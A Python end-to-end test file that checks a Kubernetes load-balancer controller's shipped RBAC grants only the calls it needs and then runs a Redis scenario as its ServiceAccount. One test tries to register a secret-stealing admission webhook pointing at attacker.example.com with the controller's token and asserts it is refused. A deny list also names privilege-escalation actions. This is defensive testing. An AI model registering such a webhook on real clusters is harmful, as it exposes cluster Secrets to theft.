"""The acceptance of ``deploy/``: ``dklb run`` works with exactly the RBAC it ships, and no more.

``deploy/base/namespace.yaml``, ``serviceaccount.yaml`` and ``rbac.yaml`` are applied as written to
the real kube-apiserver (``--authorization-mode=RBAC``) with the admin credentials; a token for
the ServiceAccount ``dklb/dklb`` comes from the TokenRequest API (the API server holds the
service-account signing key), and a kubeconfig carrying only that token is what the controller
gets. Then:

* the API server authorizes the ServiceAccount for every call the controller makes and refuses
  it everything around that (SubjectAccessReviews, and a real request as the ServiceAccount):
  above all any write to webhook configurations (S7 of the security review: a stolen token
  cannot register a webhook that receives every Secret), and Nodes unless the address-mode
  component's RBAC (``deploy/components/address-mode``) is applied too;
* the seed's Redis scenario runs end to end as the ServiceAccount, under leader election on the
  Lease ``dklb/dklb``, in both backend modes (``address`` also watches Nodes): the Service gets
  its ingress, traffic flows through the pool's frontend (``address``: with the component's RBAC),
  the Lease names the controller,
  deleting the Service deletes the pool and releases the finalizer, SIGTERM releases the Lease,
  and the controller's log holds no 403 / Forbidden;
* the rest of ``deploy/`` (the claim, the NetworkPolicy, the webhook's Service and its static
  configurations, the Deployment) is accepted by the API server as written, nothing dropped
  (server-side dry run).

Everything created is removed again (processes by PID, Services with their finalizers
stripped, the Lease, the RBAC objects, the namespaces), even when a step fails.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import socket
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml

import localcluster
from engine.edgelb.client import EdgeLBClient
from engine.kube.api import response_json
from engine.model.services import FINALIZER
from tests.checks import present
from tests.e2e.conftest import World
from tests.e2e.test_controller import REDIS, frontend_ports, redis_command
from tests.integration.conftest import free_port
from tests.processes import ControllerProcess, controller_args, start_edgelb, wait_for

DEPLOY = Path(__file__).resolve().parents[2] / "deploy" / "base"
NAMESPACE = "dklb"
ACCOUNT = "dklb"
LEASE = "dklb"
USER = f"system:serviceaccount:{NAMESPACE}:{ACCOUNT}"
GROUPS = ["system:serviceaccounts", f"system:serviceaccounts:{NAMESPACE}", "system:authenticated"]
# The API server's --api-audiences default to its --service-account-issuer (localcluster/start.sh).
AUDIENCE = "https://kubernetes.default.svc.cluster.local"

Obj = dict[str, Any]

# kind -> (API prefix for its apiVersion, plural, namespaced)
KINDS = {
    "Namespace": ("/api/v1", "namespaces", False),
    "ServiceAccount": ("/api/v1", "serviceaccounts", True),
    "PersistentVolumeClaim": ("/api/v1", "persistentvolumeclaims", True),
    "ClusterRole": ("/apis/rbac.authorization.k8s.io/v1", "clusterroles", False),
    "ClusterRoleBinding": ("/apis/rbac.authorization.k8s.io/v1", "clusterrolebindings", False),
    "Role": ("/apis/rbac.authorization.k8s.io/v1", "roles", True),
    "RoleBinding": ("/apis/rbac.authorization.k8s.io/v1", "rolebindings", True),
    "Deployment": ("/apis/apps/v1", "deployments", True),
    "Service": ("/api/v1", "services", True),
    "NetworkPolicy": ("/apis/networking.k8s.io/v1", "networkpolicies", True),
    "MutatingWebhookConfiguration": (
        "/apis/admissionregistration.k8s.io/v1",
        "mutatingwebhookconfigurations",
        False,
    ),
    "ValidatingWebhookConfiguration": (
        "/apis/admissionregistration.k8s.io/v1",
        "validatingwebhookconfigurations",
        False,
    ),
}


class Rest:
    """Raw JSON requests through a kubernetes ``ApiClient``: no generated model decodes anything."""

    def __init__(self, api: kubernetes.client.ApiClient) -> None:
        self.api = api

    def call(
        self, method: str, path: str, body: Any = None, query: dict[str, str] | None = None
    ) -> tuple[int, Any]:
        headers = {"Accept": "application/json"}
        if body is not None:
            headers["Content-Type"] = (
                "application/merge-patch+json" if method == "PATCH" else "application/json"
            )
        method, url, headers, body, post = self.api.param_serialize(
            method=method,
            resource_path=path,
            query_params=list((query or {}).items()),
            header_params=headers,
            body=body,
            auth_settings=["BearerToken"],
        )
        response = self.api.call_api(
            method, url, header_params=headers, body=body, post_params=post, _request_timeout=30
        )
        data = response.read()
        return response.status, json.loads(data) if data else None

    def ok(self, method: str, path: str, body: Any = None, query: dict[str, str] | None = None) -> Any:
        status, answer = self.call(method, path, body, query)
        assert 200 <= status < 300, f"{method} {path}: HTTP {status} {answer}"
        return answer

    def delete(self, path: str) -> None:
        status, answer = self.call("DELETE", path)
        assert status in (200, 202, 404), f"DELETE {path}: HTTP {status} {answer}"


def collection(obj: Obj) -> str:
    prefix, plural, namespaced = KINDS[obj["kind"]]
    assert prefix.endswith("/" + obj["apiVersion"]), obj["apiVersion"]
    if namespaced:
        return f"{prefix}/namespaces/{obj['metadata']['namespace']}/{plural}"
    return f"{prefix}/{plural}"


def object_path(obj: Obj) -> str:
    return f"{collection(obj)}/{obj['metadata']['name']}"


def load(name: str) -> list[Obj]:
    with (DEPLOY / name).open(encoding="utf-8") as stream:
        return [doc for doc in yaml.safe_load_all(stream) if doc is not None]


def dropped(sent: Any, stored: Any, path: str = "") -> list[str]:
    """Where ``stored`` lacks or changed what ``sent`` said (server defaults may add more)."""
    if isinstance(sent, dict):
        if not isinstance(stored, dict):
            return [f"{path or '.'}: {stored!r}"]
        return [m for k, v in sent.items() for m in dropped(v, stored.get(k), f"{path}.{k}")]
    if isinstance(sent, list):
        if not isinstance(stored, list) or len(stored) != len(sent):
            return [f"{path}: {stored!r}"]
        return [
            m
            for i, (a, b) in enumerate(zip(sent, stored, strict=True))
            for m in dropped(a, b, f"{path}[{i}]")
        ]
    return [] if sent == stored else [f"{path}: sent {sent!r}, stored {stored!r}"]


def remove_namespace(rest: Rest, name: str) -> None:
    """Delete a namespace for good. Without a controller-manager nothing would empty and
    finalize it: its objects are deleted beforehand, and the "kubernetes" finalizer is cleared
    here, as the namespace controller would once the namespace is empty."""
    status, namespace = rest.call("DELETE", f"/api/v1/namespaces/{name}")
    if status == 404:
        return
    assert status in (200, 202), f"DELETE namespace {name}: HTTP {status} {namespace}"
    status, namespace = rest.call("GET", f"/api/v1/namespaces/{name}")
    if status == 200 and namespace["spec"].get("finalizers"):
        namespace["spec"]["finalizers"] = []
        rest.ok("PUT", f"/api/v1/namespaces/{name}/finalize", namespace)
    wait_for(lambda: rest.call("GET", f"/api/v1/namespaces/{name}")[0] == 404, what=f"namespace {name} gone")


# ---- the installed RBAC and the ServiceAccount's credentials ------------------------------------


@dataclass
class Installed:
    admin: Rest
    core: kubernetes.client.CoreV1Api
    created: list[tuple[Obj, Obj]]  # (manifest, as the API server stored it)
    token: str
    kubeconfig: Path
    account: Rest


@pytest.fixture(scope="module")
def installed(
    kube_cluster: localcluster.LocalCluster, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Installed]:
    api = kubernetes.config.new_client_from_config(str(kube_cluster.kubeconfig))
    admin = Rest(api)
    created: list[tuple[Obj, Obj]] = []
    try:
        for name in ("namespace.yaml", "serviceaccount.yaml", "rbac.yaml"):
            for obj in load(name):
                created.append((obj, admin.ok("POST", collection(obj), obj)))

        request = {
            "apiVersion": "authentication.k8s.io/v1",
            "kind": "TokenRequest",
            "spec": {"audiences": [AUDIENCE], "expirationSeconds": 3600},
        }
        response = kubernetes.client.CoreV1Api(api).create_namespaced_service_account_token(
            ACCOUNT,
            NAMESPACE,
            body=request,  # type: ignore[arg-type]  # a dict body: the client takes it for its model
            _preload_content=False,
        )
        token = response_json(response)["status"]["token"]

        admin_config = yaml.safe_load(kube_cluster.kubeconfig.read_text())
        (cluster,) = admin_config["clusters"]
        kubeconfig = tmp_path_factory.mktemp("sa") / "kubeconfig"
        kubeconfig.write_text(
            yaml.safe_dump(
                {
                    "apiVersion": "v1",
                    "kind": "Config",
                    "clusters": [cluster],
                    "users": [{"name": ACCOUNT, "user": {"token": token}}],
                    "contexts": [
                        {
                            "name": ACCOUNT,
                            "context": {"cluster": cluster["name"], "user": ACCOUNT, "namespace": NAMESPACE},
                        }
                    ],
                    "current-context": ACCOUNT,
                }
            )
        )
        kubeconfig.chmod(0o600)
        account = Rest(kubernetes.config.new_client_from_config(str(kubeconfig)))
        yield Installed(
            admin=admin,
            core=kubernetes.client.CoreV1Api(api),
            created=created,
            token=token,
            kubeconfig=kubeconfig,
            account=account,
        )
    finally:
        # Every step runs even when an earlier one fails.
        with contextlib.ExitStack() as cleanup:
            if any(obj["kind"] == "Namespace" for obj, _ in created):
                cleanup.callback(remove_namespace, admin, NAMESPACE)
            for obj, _ in created:
                if obj["kind"] != "Namespace":
                    cleanup.callback(admin.delete, object_path(obj))
            cleanup.callback(
                admin.delete, f"/apis/coordination.k8s.io/v1/namespaces/{NAMESPACE}/leases/{LEASE}"
            )


def test_the_rbac_manifests_are_stored_as_written(installed: Installed) -> None:
    kinds = [manifest["kind"] for manifest, _ in installed.created]
    assert kinds == [
        "Namespace",
        "ServiceAccount",
        "ClusterRole",
        "ClusterRoleBinding",
        "Role",
        "RoleBinding",
    ]
    for manifest, stored in installed.created:
        assert dropped(manifest, stored) == [], manifest["kind"]


def test_the_token_is_the_service_accounts(installed: Installed) -> None:
    payload = installed.token.split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    assert claims["sub"] == USER
    assert claims["aud"] == [AUDIENCE]
    # Authenticated as the ServiceAccount, and authorized for what its ClusterRole grants.
    services = installed.account.ok("GET", "/api/v1/services")
    assert services["kind"] == "ServiceList"


def review(rest: Rest, verb: str, group: str, resource: str, namespace: str, name: str) -> bool:
    """Whether the API server's authorizer lets the ServiceAccount do this (SubjectAccessReview)."""
    plural, _, subresource = resource.partition("/")
    attributes = {"verb": verb, "group": group, "resource": plural, "subresource": subresource}
    attributes.update({k: v for k, v in (("namespace", namespace), ("name", name)) if v})
    body = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SubjectAccessReview",
        "spec": {"user": USER, "groups": GROUPS, "resourceAttributes": attributes},
    }
    answer = rest.ok("POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", body)
    return bool(answer["status"].get("allowed"))


RBAC = "rbac.authorization.k8s.io"
COORDINATION = "coordination.k8s.io"
ADMISSION = "admissionregistration.k8s.io"
# What a stolen controller token would need to intercept every admitted object (S7).
WEBHOOK_WRITES = [
    (verb, ADMISSION, resource, "", name)
    for resource in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
    for verb, name in (("create", ""), ("get", "dklb"), ("update", "dklb"), ("update", "other"))
]
NODE_READS = [("list", "", "nodes", "", ""), ("watch", "", "nodes", "", "")]
# (verb, API group, resource[/subresource], namespace, name); "" = the core group, all namespaces,
# any name. "any" stands for any namespace a Service may be in.
ALLOWED = [
    ("list", "", "services", "", ""),
    ("watch", "", "services", "", ""),
    ("get", "", "services", "any", "redis"),
    ("patch", "", "services", "any", "redis"),
    ("patch", "", "services/status", "any", "redis"),
    ("create", "", "events", "any", ""),
    ("patch", "", "events", "any", "redis.16a4"),
    ("create", COORDINATION, "leases", NAMESPACE, ""),
    ("get", COORDINATION, "leases", NAMESPACE, LEASE),
    ("update", COORDINATION, "leases", NAMESPACE, LEASE),
]
DENIED = [
    ("create", "", "services", "any", ""),
    ("update", "", "services", "any", "redis"),
    ("delete", "", "services", "any", "redis"),
    ("update", "", "services/status", "any", "redis"),
    ("get", "", "services/proxy", "any", "redis"),
    ("get", "", "secrets", NAMESPACE, ""),
    ("list", "", "secrets", "", ""),
    ("list", "", "configmaps", "", ""),
    ("list", "", "pods", "", ""),
    ("list", "", "endpoints", "", ""),
    # S7 (security review): nothing about admission, and Nodes only with the address-mode component.
    *WEBHOOK_WRITES,
    *NODE_READS,
    ("get", "", "nodes", "", "node-1"),
    ("patch", "", "nodes", "", "node-1"),
    ("patch", "", "nodes/status", "", "node-1"),
    ("list", "", "events", "any", ""),
    ("delete", "", "events", "any", "redis.16a4"),
    ("create", "", "serviceaccounts/token", NAMESPACE, ACCOUNT),
    ("impersonate", "", "serviceaccounts", "kube-system", "default"),
    ("create", COORDINATION, "leases", "kube-system", ""),
    ("get", COORDINATION, "leases", "kube-system", "kube-controller-manager"),
    ("update", COORDINATION, "leases", NAMESPACE, "another-lease"),
    ("list", COORDINATION, "leases", NAMESPACE, ""),
    ("patch", COORDINATION, "leases", NAMESPACE, LEASE),
    ("delete", COORDINATION, "leases", NAMESPACE, LEASE),
    ("bind", RBAC, "clusterroles", "", "cluster-admin"),
    ("escalate", RBAC, "clusterroles", "", "dklb"),
    ("update", RBAC, "clusterroles", "", "dklb"),
    ("create", RBAC, "rolebindings", NAMESPACE, ""),
    ("create", "apps", "deployments", NAMESPACE, ""),
]


def test_rbac_authorizes_exactly_the_controllers_calls(installed: Installed) -> None:
    refused = [access for access in ALLOWED if not review(installed.admin, *access)]
    assert refused == [], "the ServiceAccount lacks permissions the controller needs"
    granted = [access for access in DENIED if review(installed.admin, *access)]
    assert granted == [], "the ServiceAccount may do more than the controller needs"


def test_a_request_outside_the_role_is_forbidden_for_the_service_account(installed: Installed) -> None:
    status, answer = installed.account.call("GET", f"/api/v1/namespaces/{NAMESPACE}/secrets")
    assert status == 403 and answer["reason"] == "Forbidden"
    assert f'User "{USER}" cannot list resource "secrets"' in answer["message"]
    status, answer = installed.account.call(
        "POST",
        "/api/v1/namespaces/default/services",
        {"metadata": {"name": "x"}, "spec": {"ports": [{"port": 1}]}},
    )
    assert status == 403, answer


def test_the_service_account_cannot_register_a_webhook(installed: Installed) -> None:
    """S7 (security review): with the controller's token, try what an attacker would: register a
    webhook that receives every Secret. The API server refuses it."""
    hook = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "steal-secrets"},
        "webhooks": [
            {
                "name": "steal.example.com",
                "clientConfig": {"url": "https://attacker.example.com/"},
                "rules": [
                    {
                        "apiGroups": [""],
                        "apiVersions": ["v1"],
                        "operations": ["CREATE", "UPDATE"],
                        "resources": ["secrets"],
                    }
                ],
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "failurePolicy": "Ignore",
            }
        ],
    }
    path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    status, answer = installed.account.call("POST", path, hook)
    assert status == 403, answer
    assert installed.admin.call("GET", f"{path}/steal-secrets")[0] == 404


def test_the_claim_the_deployment_and_the_rest_are_accepted_as_written(installed: Installed) -> None:
    for name in ("pvc.yaml", "networkpolicy.yaml", "webhook.yaml", "deployment.yaml"):
        for obj in load(name):
            stored = installed.admin.ok("POST", collection(obj), obj, {"dryRun": "All"})
            assert dropped(obj, stored) == [], f"{name}: fields the API server dropped or changed"
            assert installed.admin.call("GET", object_path(obj))[0] == 404, "a dry run stores nothing"


# ---- the controller, as the ServiceAccount -------------------------------------------------------


def http_get(port: int, path: str) -> tuple[int, Obj]:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read() or b"{}")


# A text log line: "2026-01-02 03:04:05,403 WARNING dklb.x: message". The timestamp's milliseconds
# (and a duration such as "403.1 ms") are no HTTP status.
TIMESTAMP = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} ")
DENIAL = re.compile(r"(?<![.\d])403(?![.\d])|forbidden", re.IGNORECASE)


def denials(log: str) -> list[str]:
    """The lines of a controller log that report a refusal (HTTP 403, "Forbidden")."""
    return [line for line in log.splitlines() if DENIAL.search(TIMESTAMP.sub("", line))]


def test_denials_are_recognised_in_a_log_and_timestamps_are_not() -> None:
    log = (
        "2026-11-28 17:21:45,403 INFO    dklb.run: leading: this replica writes now\n"
        "2026-11-28 17:21:45,500 DEBUG   dklb.edgelb: GET /v2/pools/a -> 200 in 403.2 ms\n"
        "2026-11-28 17:21:45,501 WARNING dklb.leader: lease dklb/dklb: renew failed: HTTP 403\n"
        "2026-11-28 17:21:45,502 WARNING dklb.kube.watch: nodes: list/watch failed (ApiException: (403)\n"
        "Reason: Forbidden\n"
        "2026-11-28 17:21:45,503 DEBUG   dklb.edgelb: GET /v2/pools/a -> 403 in 2.0 ms\n"
    )
    assert denials(log) == log.splitlines()[2:]


def lease(rest: Rest) -> Obj | None:
    status, answer = rest.call("GET", f"/apis/coordination.k8s.io/v1/namespaces/{NAMESPACE}/leases/{LEASE}")
    return answer if status == 200 else None


def release(rest: Rest, namespace: str) -> None:
    """Every Service of ``namespace`` deleted with its finalizers stripped, its Events deleted."""
    services = rest.ok("GET", f"/api/v1/namespaces/{namespace}/services")["items"]
    for service in services:
        path = f"/api/v1/namespaces/{namespace}/services/{service['metadata']['name']}"
        if service["metadata"].get("finalizers"):
            rest.call("PATCH", path, {"metadata": {"finalizers": None}})
        rest.delete(path)
    rest.ok("DELETE", f"/api/v1/namespaces/{namespace}/events")


@pytest.fixture
def namespace(installed: Installed) -> Iterator[str]:
    name = f"e2e-{uuid.uuid4().hex[:8]}"
    installed.admin.ok("POST", "/api/v1/namespaces", {"metadata": {"name": name}})
    try:
        yield name
    finally:
        with contextlib.ExitStack() as cleanup:
            cleanup.callback(remove_namespace, installed.admin, name)
            cleanup.callback(release, installed.admin, name)


@pytest.fixture
def address_mode_rbac(installed: Installed) -> Iterator[None]:
    """components/address-mode's RBAC, applied as written (and removed afterwards)."""
    created = [
        (obj, installed.admin.ok("POST", collection(obj), obj))
        for obj in load("../components/address-mode/rbac.yaml")
    ]
    try:
        for obj, stored in created:
            assert dropped(obj, stored) == [], obj["kind"]
        yield
    finally:
        with contextlib.ExitStack() as cleanup:
            for obj, _ in created:
                cleanup.callback(installed.admin.delete, object_path(obj))


def test_the_address_mode_component_grants_node_reads_and_nothing_more(
    installed: Installed, address_mode_rbac: None
) -> None:
    refused = [access for access in NODE_READS if not review(installed.admin, *access)]
    assert refused == []
    others = [access for access in DENIED if access not in NODE_READS]
    assert [access for access in others if review(installed.admin, *access)] == []


@pytest.fixture
def node(installed: Installed, address_mode_rbac: None) -> Iterator[str]:
    """A Ready Node at 127.0.0.1 (no kubelet here: the admin writes it), for the address mode,
    with the RBAC of components/address-mode that lets the controller watch it."""
    name = f"node-{uuid.uuid4().hex[:6]}"
    body = {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": name},
        "status": {
            "addresses": [{"type": "InternalIP", "address": "127.0.0.1"}],
            "conditions": [{"type": "Ready", "status": "True"}],
        },
    }
    installed.admin.ok("POST", "/api/v1/nodes", body)
    try:
        yield name
    finally:
        installed.admin.delete(f"/api/v1/nodes/{name}")


@pytest.mark.parametrize("backend_mode", ["mesos", "address"])
def test_the_redis_example_runs_as_the_service_account_under_leader_election(
    installed: Installed, namespace: str, tmp_path: Path, request: pytest.FixtureRequest, backend_mode: str
) -> None:
    if backend_mode == "address":
        request.getfixturevalue("node")
    admin = installed.admin
    http_port = free_port()
    edgelb = start_edgelb(tmp_path / "edgelb")
    controller = ControllerProcess(
        args=[
            *controller_args(
                kubeconfig=installed.kubeconfig,
                edgelb_url=edgelb.url,
                database=tmp_path / "dklb.db",
                resync_period="2s",
                backend_mode=backend_mode,
                http_listen=f"127.0.0.1:{http_port}",
                # The Node is at 127.0.0.1: loopback Nodes are refused unless named (S12).
                **({"node_address_cidr": "127.0.0.0/8"} if backend_mode == "address" else {}),
            ),
            # After controller_args' "--leader-elect false": the last one wins.
            "--leader-elect",
            "true",
            "--leader-elect-namespace",
            NAMESPACE,
        ],
        log_path=tmp_path / "controller.log",
    )
    world = World(
        core=installed.core,
        namespace=namespace,
        edgelb=edgelb,
        client=EdgeLBClient(edgelb.url),
        controller=controller,
        directory=tmp_path,
    )

    def close_redis() -> None:
        for stack in world._redis:
            stack.close()

    with contextlib.ExitStack() as cleanup:
        cleanup.callback(admin.delete, f"/apis/coordination.k8s.io/v1/namespaces/{NAMESPACE}/leases/{LEASE}")
        cleanup.callback(close_redis)
        cleanup.callback(edgelb.stop_haproxies)
        cleanup.callback(edgelb.stop)
        cleanup.callback(controller.stop)
        controller.start()

        # Leading on the Lease dklb/dklb, as the identity the controller logs.
        elected = wait_for(
            lambda: re.search(rf"lease {NAMESPACE}/{LEASE}: (\S+) is now the leader", controller.log()),
            what="the controller leading",
        )
        identity = elected.group(1)
        assert identity.startswith(socket.gethostname() + "_")
        held = lease(admin)
        assert held is not None and held["spec"]["holderIdentity"] == identity
        # The probes the Deployment configures: alive, and ready once the Services are listed.
        assert http_get(http_port, "/healthz")[0] == 200
        # "is now the leader" is logged before the replica claims its term in the database and
        # writes: ready first, leading a moment later.
        ready = wait_for(
            lambda: (
                (answer := http_get(http_port, "/readyz"))[0] == 200 and answer[1].get("leader") and answer[1]
            )
        )
        assert ready == {"ready": True, "leader": True}

        port = free_port()
        service = world.create_service("redis", config=REDIS.format(port=port))
        world.redis_on_node_port(service)
        assert wait_for(lambda: world.ingress("redis"), what="status.loadBalancer.ingress") == [
            {"ip": "127.0.0.1"}
        ]
        pool = world.pool("dklb-redis")
        assert pool is not None and frontend_ports(pool) == [port]
        (backend,) = pool["haproxy"]["backends"]
        assert backend["services"], f"no backend service in {backend_mode} mode: {backend}"
        endpoint = backend["services"][0]["endpoint"]
        if backend_mode == "address":
            # From the watched Node: the ServiceAccount may list and watch Nodes.
            assert (endpoint["type"], endpoint["address"]) == ("ADDRESS", "127.0.0.1")
        assert endpoint["port"] == service["spec"]["ports"][0]["nodePort"]
        wait_for(lambda: redis_command(port, "SET", "foo", "bar") == b"+OK\r\n", what="SET through the pool")
        assert redis_command(port, "GET", "foo") == b"$3\r\nbar\r\n"
        assert FINALIZER in present(world.service("redis"))["metadata"]["finalizers"]
        event = world.wait_event("redis", reason="EnsuredLoadBalancer")
        assert event["source"]["component"] == "dklb"

        world.delete_service("redis")
        wait_for(lambda: world.service("redis") is None, what="the finalizer released and the Service gone")
        assert world.pool_names() == [], "the dklb-redis pool is deleted with its Service"

        held = lease(admin)
        assert held is not None and held["spec"]["holderIdentity"] == identity, "still leading"
        assert controller.stop() == 0
        released = lease(admin)
        assert released is not None and not released["spec"].get("holderIdentity"), "SIGTERM released it"

        log = controller.log()
        assert denials(log) == [], "the controller was refused something"
        assert f"lease {NAMESPACE}/{LEASE}: released by {identity}" in log
